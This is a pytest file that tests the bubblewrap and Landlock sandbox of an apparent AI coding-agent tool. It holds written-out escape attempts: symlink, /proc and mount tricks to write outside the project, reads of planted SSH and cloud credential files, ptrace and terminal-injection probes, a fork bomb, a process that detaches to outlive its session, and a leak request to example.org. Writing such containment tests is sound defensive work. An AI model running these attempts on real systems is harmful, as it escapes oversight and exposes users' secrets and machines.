@@ -1,0 +1,568 @@
+"""Real programs that try to get out of the sandbox: with bubblewrap, and with Landlock alone.
+
+None of them harms the machine it would get out on: what they would write, read or end is the test's own.
+"""
+
+import asyncio
+import os
+import pty
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+from collections.abc import AsyncIterator, Iterator
+from contextlib import suppress
+from pathlib import Path
+
+import pytest
+
+from foldline.agent import sandbox
+from foldline.agent.sandbox_policy import SandboxPolicy, bubblewrap_words
+from support.agents import PATIENCE
+from support.sandboxes import EngineName, Trial, need, sandbox_in
+
+pytestmark = pytest.mark.skipif(
+    not sys.platform.startswith("linux"), reason="bubblewrap and Landlock are Linux's"
+)
+
+KEY = "-----BEGIN A KEY THAT NOBODY MAY READ-----"
+
+
+@pytest.fixture(autouse=True)
+def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A home folder with keys, some of them ours."""
+    home = tmp_path / "home"
+    for name in (
+        ".ssh/id_ed25519",
+        ".aws/credentials",
+        ".netrc",
+        ".config/gh/hosts.yml",
+        "foldline/keys.toml",
+    ):
+        (home / name).parent.mkdir(parents=True, exist_ok=True)
+        (home / name).write_text(KEY)
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.setenv("FOLDLINE_HOME", str(home / "foldline"))
+    return home
+
+
+@pytest.fixture
+def outside(tmp_path: Path) -> Path:
+    """A folder beside the project, with a file."""
+    (tmp_path / "outside").mkdir()
+    (tmp_path / "outside" / "file").write_text("as it was")
+    return tmp_path / "outside"
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Path:
+    (tmp_path / "project").mkdir()
+    return tmp_path / "project"
+
+
+@pytest.fixture(params=["bubblewrap", "landlock"])
+async def box(request: pytest.FixtureRequest, project: Path) -> AsyncIterator[Trial]:
+    async with sandbox_in(project, request.param) as made:
+        yield made
+
+
+@pytest.fixture
+async def walls(project: Path) -> AsyncIterator[Trial]:
+    """The sandbox of bubblewrap, for what Landlock alone does not hold."""
+    async with sandbox_in(project, "bubblewrap") as made:
+        yield made
+
+
+# --- writing ------------------------------------------------------------------------------------------
+
+WRITES = {
+    "the path": 'echo x >"$1/new"; echo x >"$1/file"',
+    "the way up": "echo x >../outside/new; echo x >../outside/file",
+    "a symbolic link to the file": 'ln -s "$1/file" l; echo x >l',
+    "a symbolic link to the folder": 'ln -s "$1" l; echo x >l/new; echo x >l/file',
+    "a hard link": 'ln "$1/file" h; echo x >h',
+    "a rename out": 'echo x >f; mv f "$1/new"; echo x >g; mv g "$1/file"',
+    "a rename in": 'mv "$1/file" stolen; mv "$1" stolen-folder',
+    "a removal": 'rm -f "$1/file"; rm -rf "$1"',
+    "a truncation": 'truncate -s 0 "$1/file"',
+    "the root of a process": 'echo x >"/proc/self/root$1/new"; echo x >"/proc/$PPID/root$1/file"',
+    "the folder of a process": 'cd "$1"; echo x >/proc/self/cwd/new; echo x >/proc/$$/cwd/file',
+    "an open descriptor": 'exec 7<"$1/file"; echo x >/proc/self/fd/7',
+    "a mount made anew": 'mount -o remount,rw /; mount -o remount,rw,bind "$1"; echo x >"$1/new"',
+    "a mount": 'mkdir m; mount --bind "$1" m; echo x >m/new',
+    "a namespace of its own": 'unshare -Urm sh -c "mount -o remount,rw,bind /; echo x >$1/new"',
+    "the shell of another user": 'su -c "echo x >$1/file" </dev/null; sudo -n sh -c "echo x >$1/file"',
+}
+
+
+@pytest.mark.parametrize("way", WRITES)
+async def test_nothing_is_written_outside(box: Trial, outside: Path, way: str) -> None:
+    await box.run(WRITES[way], str(outside))
+    assert [path.name for path in outside.iterdir()] == ["file"]
+    assert (outside / "file").read_text() == "as it was"
+
+
+async def test_what_is_written_inside_and_to_temporary_files_stays(box: Trial) -> None:
+    tried = await box.run(
+        'echo a >new && mkdir d && mv new d/ && rm d/new && echo b >"$TMPDIR/t" && cat "$TMPDIR/t"'
+    )
+    assert (tried.status, tried.text) == (0, "b\n")
+    assert (box.cwd / "d").is_dir()
+
+
+async def test_a_folder_the_user_added_is_written(project: Path, outside: Path) -> None:
+    async with sandbox_in(project, "bubblewrap", writable=[str(outside)]) as made:
+        assert (await made.run('echo x >"$1/new"', str(outside))).status == 0
+    assert (outside / "new").exists()
+
+
+@pytest.mark.parametrize("engine", ["bubblewrap", "landlock"])
+async def test_what_only_reads_writes_nowhere(project: Path, engine: EngineName) -> None:
+    async with sandbox_in(project, engine, may_change=False) as made:
+        tried = await made.run("echo x >new; cat /etc/hostname >/dev/null && echo read")
+    assert tried.text.endswith("read\n")
+    assert list(project.iterdir()) == []
+
+
+async def test_modes_and_times_of_files_outside_stay(walls: Trial, outside: Path) -> None:
+    before = (outside / "file").stat()
+    await walls.run('chmod 777 "$1"; touch -d 2001-01-01 "$1"; chown 12345 "$1"', str(outside / "file"))
+    assert (outside / "file").stat() == before
+
+
+SETTINGS_OF_THE_KERNEL = """
+import sys
+opened = []
+for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
+             "/sys/kernel/uevent_helper", "/proc/sys/vm/drop_caches"):
+    try:
+        open(path, "r+b").close()  # opened to be written, and not written
+        opened.append(path)
+    except OSError:
+        pass
+print(opened)
+"""
+
+
+async def test_settings_of_the_kernel_are_not_written(box: Trial) -> None:
+    assert (await box.python(SETTINGS_OF_THE_KERNEL)).text == "[]\n"
+
+
+DEVICES = """
+import os, stat
+found = []
+for name in sorted(os.listdir("/sys/block")) or ["vda"]:
+    try:
+        number = open(f"/sys/block/{name}/dev").read().split(":")
+        os.mknod("made", 0o600 | stat.S_IFBLK, os.makedev(*map(int, number)))
+    except OSError:
+        pass
+    for path in ("made", f"/dev/{name}", "/dev/mem", "/proc/kcore"):
+        try:
+            found += [path] if open(path, "rb").read(1) else []
+        except OSError:
+            pass
+print(found)
+"""
+
+
+async def test_no_device_of_the_machine_is_made_or_read(box: Trial) -> None:
+    assert (await box.python(DEVICES)).text == "[]\n"
+
+
+WITHOUT = ("the path", "a symbolic link to the file", "a hard link", "a rename out", "the root of a process")
+
+
+@pytest.mark.parametrize("way", WITHOUT)
+def test_without_a_sandbox_the_same_programs_get_out(project: Path, outside: Path, way: str) -> None:
+    """Else the attempts prove nothing."""
+    subprocess.run(["bash", "-c", WRITES[way], "sh", str(outside)], cwd=project, check=False)
+    written = {path.name: path.read_text() for path in outside.iterdir()}
+    assert written != {"file": "as it was"}
+
+
+# --- what acts by itself ------------------------------------------------------------------------------
+
+ACTS = (
+    ".git/hooks/pre-commit", ".git/config", ".git/info/attributes", ".foldline.toml", ".claude/settings.json",
+    ".envrc", ".vscode/tasks.json", ".bashrc", "AGENTS.md", "part/.vscode/tasks.json", "part/.git/config",
+)  # fmt: skip
+
+
+async def test_what_acts_by_itself_is_read_only(walls: Trial) -> None:
+    for name in ACTS:
+        (walls.cwd / name).parent.mkdir(parents=True, exist_ok=True)
+        (walls.cwd / name).write_text("as it was")
+    (walls.cwd / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
+    for name in ACTS:
+        await walls.run('echo x >"$1"; rm -f "$1"; echo x >n; mv n "$1"; ln -f n "$1"', name)
+    assert {name: (walls.cwd / name).read_text() for name in ACTS} == dict.fromkeys(ACTS, "as it was")
+
+
+async def test_a_repository_is_not_put_aside_for_another(walls: Trial) -> None:
+    (walls.cwd / ".git" / "hooks").mkdir(parents=True)
+    (walls.cwd / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
+    await walls.run("mv .git other && mkdir -p .git/hooks && echo x >.git/hooks/pre-commit")
+    await walls.run("mv .git/hooks other && mkdir .git/hooks && echo x >.git/hooks/pre-commit")
+    assert list((walls.cwd / ".git" / "hooks").iterdir()) == []
+
+
+async def test_a_file_dot_git_opens_no_other_folder(walls: Trial, outside: Path) -> None:
+    (walls.cwd / ".git").write_text(f"gitdir: {outside}\n")
+    (outside / "gitdir").write_text(f"{walls.cwd}/.git\n")
+    (outside / "commondir").write_text("..\n")
+    await walls.run('echo x >"$1/file"', str(outside))
+    assert (outside / "file").read_text() == "as it was"
+
+
+# --- reading ------------------------------------------------------------------------------------------
+
+READS = {
+    "the path": 'cat "$HOME/$1"',
+    "a link": 'ln -s "$HOME/$1" l; cat l',
+    "a hard link": 'ln "$HOME/$1" h; cat h',
+    "the root of a process": 'for each in self 1 $PPID; do cat "/proc/$each/root$HOME/$1"; done',
+    "a copy": 'cp -r "$HOME" copy; cat "copy/$1"',
+    "a mount": 'mkdir m; mount --bind "$HOME" m; cat "m/$1"',
+    "a namespace of its own": 'unshare -Urm sh -c "umount -l $HOME/.ssh $HOME/$1; cat $HOME/$1"',
+    "a rename of what is above": 'mv "$HOME" "$HOME-2"; cat "$HOME-2/$1"',
+}
+
+
+@pytest.mark.parametrize("way", READS)
+@pytest.mark.parametrize("key", [".ssh/id_ed25519", ".netrc", ".config/gh/hosts.yml", "foldline/keys.toml"])
+async def test_no_key_is_read(box: Trial, key: str, way: str) -> None:
+    assert KEY not in (await box.run(READS[way], key)).text
+
+
+async def test_what_is_no_key_is_read(box: Trial, home: Path) -> None:
+    (home / "notes").write_text("hello")
+    assert (await box.run('cat "$HOME/notes"')).text == "hello"
+
+
+async def test_what_a_command_was_kept_from_is_said(box: Trial, outside: Path) -> None:
+    assert (await box.run('echo x >"$1/new"', str(outside))).refused == f"to write outside: {outside}/new"
+    said = (await box.run('cat "$HOME/.ssh/id_ed25519"')).refused
+    assert said == "" or said.startswith("to read what is hidden: ")
+
+
+# --- the network --------------------------------------------------------------------------------------
+
+
+class Listeners:
+    """On this machine, outside of the sandbox: whoever is reached notes it."""
+
+    def __init__(self, folder: Path) -> None:
+        self.waiting = {kind: threading.Event() for kind in ("tcp", "udp", "unix", "abstract")}
+        self.path = str(folder / "s")
+        self.name = f"\0foldline-{os.getpid()}-{id(self)}"
+        self._open = {
+            "tcp": socket.create_server(("127.0.0.1", 0)),
+            "udp": socket.socket(socket.AF_INET, socket.SOCK_DGRAM),
+            "unix": socket.socket(socket.AF_UNIX),
+            "abstract": socket.socket(socket.AF_UNIX),
+        }
+        self._open["udp"].bind(("127.0.0.1", 0))
+        self._open["unix"].bind(self.path)
+        self._open["abstract"].bind(self.name)
+        for kind, each in self._open.items():
+            if kind != "udp":
+                each.listen()
+            threading.Thread(target=self._wait, args=(kind, each), daemon=True).start()
+
+    def _wait(self, kind: str, listening: socket.socket) -> None:
+        with suppress(OSError):
+            listening.recv(10) if kind == "udp" else listening.accept()
+            self.waiting[kind].set()
+
+    @property
+    def reached(self) -> list[str]:
+        return [kind for kind, event in self.waiting.items() if event.is_set()]
+
+    def port(self, kind: str) -> str:
+        return str(self._open[kind].getsockname()[1])
+
+    def close(self) -> None:
+        for each in self._open.values():
+            with suppress(OSError):
+                each.shutdown(socket.SHUT_RDWR)
+            each.close()
+
+
+@pytest.fixture
+def listeners(outside: Path) -> Iterator[Listeners]:
+    made = Listeners(outside)
+    yield made
+    made.close()
+
+
+CONNECTS = """
+import socket, sys
+kind, tcp, udp, path, name = sys.argv[1:]
+name = chr(0) + name
+match kind:
+    case "tcp":
+        socket.create_connection(("127.0.0.1", int(tcp)), 5)
+    case "udp":
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", int(udp)))
+    case "unix":
+        socket.socket(socket.AF_UNIX).connect(path)
+    case "abstract":
+        socket.socket(socket.AF_UNIX).connect(name)
+    case "vsock":
+        socket.socket(40, socket.SOCK_STREAM)
+    case "raw":
+        socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+print("connected")
+"""
+
+
+@pytest.mark.parametrize("kind", ["tcp", "udp", "unix", "abstract", "vsock", "raw"])
+async def test_nobody_is_reached(box: Trial, listeners: Listeners, kind: str) -> None:
+    words = (kind, listeners.port("tcp"), listeners.port("udp"), listeners.path, listeners.name[1:])
+    tried = await box.python(CONNECTS, *words)
+    # What is sent by UDP, or seen of a network of one's own, is sent and seen by nobody else.
+    assert "connected" not in tried.text or kind == "udp"
+    assert listeners.reached == []
+
+
+@pytest.mark.parametrize("kind", ["tcp", "udp", "unix", "abstract"])
+def test_without_a_sandbox_all_are_reached(listeners: Listeners, kind: str) -> None:
+    words = (kind, listeners.port("tcp"), listeners.port("udp"), listeners.path, listeners.name[1:])
+    done = subprocess.run([sys.executable, "-c", CONNECTS, *words], check=False, capture_output=True)
+    assert done.stdout == b"connected\n"
+    assert listeners.waiting[kind].wait(PATIENCE)
+
+
+async def test_no_name_is_looked_up(box: Trial) -> None:
+    tried = await box.python("import socket; print(socket.getaddrinfo('example.org', 80))")
+    assert tried.status == 1
+    assert "gaierror" in tried.text
+
+
+async def test_a_host_that_nobody_allowed_is_refused_and_named(walls: Trial) -> None:
+    code = "import urllib.request as u; u.urlopen('http://example.org/?' + 'what-leaks', timeout=9)"
+    tried = await walls.python(code)
+    assert "403" in tried.text
+    assert tried.refused == "the network: example.org"
+
+
+# --- other processes ----------------------------------------------------------------------------------
+
+
+def started(*words: str) -> "subprocess.Popen[bytes]":
+    return subprocess.Popen(words)
+
+
+LOOKS = """
+import ctypes, os, sys
+pid, libc = int(sys.argv[1]), ctypes.CDLL(None, use_errno=True)
+got = []
+for name, path in (("memory", "mem"), ("environment", "environ"), ("maps", "maps")):
+    try:
+        with open(f"/proc/{pid}/{path}", "rb") as file:
+            file.read(1) if name != "memory" else None
+            got.append(name)
+    except OSError:
+        pass
+try:
+    os.kill(pid, 0)
+    got.append("signal")
+except OSError:
+    pass
+if libc.ptrace(16, pid, 0, 0) == 0:
+    got.append("trace")
+if libc.ptrace(0, 0, 0, 0) == 0:
+    got.append("being traced")
+buffer = ctypes.create_string_buffer(8)
+vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
+if libc.process_vm_readv(pid, vector, 1, vector, 1, 0) > 0 or ctypes.get_errno() == 14:
+    got.append("read")
+if libc.syscall(425, 1, ctypes.create_string_buffer(200)) >= 0:
+    got.append("ring")
+print(got)
+"""
+
+
+async def test_no_process_of_the_users_is_looked_into_or_signalled(box: Trial) -> None:
+    other = started("sleep", "1000")
+    try:
+        assert (await box.python(LOOKS, str(other.pid))).text == "[]\n"
+        assert (await box.python(LOOKS, str(os.getpid()))).text == "[]\n"
+        await box.run("kill -9 $1", str(other.pid))
+        assert other.poll() is None
+    finally:
+        other.kill()
+        other.wait()
+
+
+async def test_other_processes_are_not_seen(walls: Trial) -> None:
+    assert len((await walls.run("ls -d /proc/[0-9]*")).text.splitlines()) < 10
+
+
+OUTLIVES = """
+import os, sys, time
+os.write(1, b"begun\\n")
+if os.fork():
+    time.sleep(1000)
+os.setsid()
+if os.fork():
+    os._exit(0)
+os.closerange(0, 256)
+os.execve("/bin/sleep", ["sleep", sys.argv[1]], {})
+"""
+"""It keeps nothing of its session, its environment, its files and its parents: no mark is left to find."""
+
+
+def sleeping(seconds: str) -> list[int]:
+    found = []
+    for path in Path("/proc").glob("[0-9]*/cmdline"):
+        with suppress(OSError):
+            if path.read_bytes() == f"sleep\0{seconds}\0".encode():
+                found.append(int(path.parent.name))
+    return found
+
+
+async def test_nothing_outlives_its_command(walls: Trial) -> None:
+    seconds = f"9{os.getpid()}"
+    running = asyncio.ensure_future(walls.python(OUTLIVES, seconds))
+    async with asyncio.timeout(PATIENCE):
+        while not sleeping(seconds):
+            await asyncio.sleep(0.01)
+    running.cancel()
+    with suppress(asyncio.CancelledError):
+        await running
+    async with asyncio.timeout(PATIENCE):
+        while sleeping(seconds):
+            await asyncio.sleep(0.01)
+
+
+PARENT = """
+import asyncio, sys
+from pathlib import Path
+from foldline.agent.sandbox import Sandbox
+from foldline.agent.tools.process import environment, spawn
+
+async def main():
+    box = Sandbox(Path(sys.argv[1]))
+    await box.ready()
+    async with spawn(["sleep", sys.argv[2]], Path(sys.argv[1]), environment(), None, box) as child:
+        await child.follow(lambda piece: asyncio.sleep(0, True))
+
+asyncio.run(main())
+"""
+
+
+async def test_nothing_outlives_a_foldline_that_is_killed(project: Path) -> None:
+    need("bubblewrap")
+    seconds = f"8{os.getpid()}"
+    parent = started(sys.executable, "-c", PARENT, str(project), seconds)
+    try:
+        async with asyncio.timeout(PATIENCE):
+            while not sleeping(seconds):
+                await asyncio.sleep(0.01)
+    finally:
+        parent.kill()
+        parent.wait()
+    async with asyncio.timeout(PATIENCE):
+        while sleeping(seconds):
+            await asyncio.sleep(0.01)
+
+
+# --- the terminal -------------------------------------------------------------------------------------
+
+TYPES = """
+import fcntl, os, sys
+done = []
+for path in ("/dev/tty", sys.argv[1], *(f"/proc/{pid}/fd/0" for pid in (1, os.getppid()))):
+    for flags in (os.O_RDWR, os.O_RDONLY, os.O_WRONLY):
+        try:
+            terminal = os.open(path, flags | os.O_NOCTTY | os.O_NONBLOCK)
+        except OSError:
+            continue
+        if os.path.realpath(path) == "/dev/null" or not os.isatty(terminal):
+            continue
+        for command in (0x5412, 0x1_0000_5412, 0x541C):
+            try:
+                fcntl.ioctl(terminal, command & 0xFFFFFFFF, b"x")
+                done.append(hex(command))
+            except OSError:
+                pass
+        try:
+            os.write(terminal, b"written")
+            done.append("written")
+        except OSError:
+            pass
+print(done)
+"""
+
+
+async def test_nothing_is_typed_into_or_written_to_the_terminal(box: Trial) -> None:
+    master, slave = pty.openpty()
+    try:
+        assert (await box.python(TYPES, os.ttyname(slave))).text == "[]\n"
+    finally:
+        os.close(master)
+        os.close(slave)
+
+
+def test_without_a_sandbox_the_terminal_is_written_to() -> None:
+    master, slave = pty.openpty()
+    done = subprocess.run([sys.executable, "-c", TYPES, os.ttyname(slave)], check=False, capture_output=True)
+    os.close(master)
+    os.close(slave)
+    assert b"written" in done.stdout
+
+
+async def test_a_program_may_have_a_terminal_of_its_own_but_not_type_into_it(walls: Trial) -> None:
+    code = "import fcntl, pty\nmaster, slave = pty.openpty()\nfcntl.ioctl(slave, 0x5412, b'x')"
+    assert "PermissionError" in (await walls.python(code)).text
+
+
+# --- how much -----------------------------------------------------------------------------------------
+
+
+async def test_no_file_becomes_larger_than_half_of_what_is_free(box: Trial) -> None:
+    beyond = shutil.disk_usage(box.cwd).free // 2 + 2**20
+    code = (
+        "import sys\nwith open('big', 'wb') as file:\n    file.seek(int(sys.argv[1]))\n    file.write(b'x')"
+    )
+    tried = await box.python(code, str(beyond))  # a hole: it would take no room
+    assert "File too large" in tried.text or tried.status != 0
+    assert not (box.cwd / "big").exists() or (box.cwd / "big").stat().st_size < beyond
+
+
+FORKS = """
+import os, signal, sys
+count = 0
+try:
+    for count in range(1000):
+        if os.fork() == 0:
+            signal.pause()
+except OSError as error:
+    print(count, error.strerror)
+"""
+
+
+async def test_a_fork_bomb_meets_its_bound(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sandbox, "_PROCESSES", 50)
+    if os.geteuid() == 0:
+        pytest.skip("the system sets root no limit of processes; see the test of an ordinary user's")
+    async with sandbox_in(project, "bubblewrap") as made:
+        tried = await made.python(FORKS)
+    assert "Resource temporarily unavailable" in tried.text
+    assert int(tried.text.split()[0]) <= 50
+
+
+def test_a_fork_bomb_of_an_ordinary_user_meets_its_bound(monkeypatch: pytest.MonkeyPatch) -> None:
+    need("bubblewrap")
+    if os.geteuid() != 0 or shutil.which("setpriv") is None:
+        pytest.skip("only root can be somebody else for a test")
+    monkeypatch.setattr(sandbox, "_PROCESSES", 50)
+    words = bubblewrap_words(SandboxPolicy("/"), is_root=False, filter_from=None)
+    command = ["/bin/sh", "-c", sandbox._limits("/", counted=True), "sh", "/usr/bin/python3", "-c", FORKS]
+    nobody = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups"]
+    done = subprocess.run([*nobody, *words, *command], capture_output=True, text=True, check=False)
+    assert "Resource temporarily unavailable" in done.stdout, done.stderr
+    assert int(done.stdout.split()[0]) <= 50
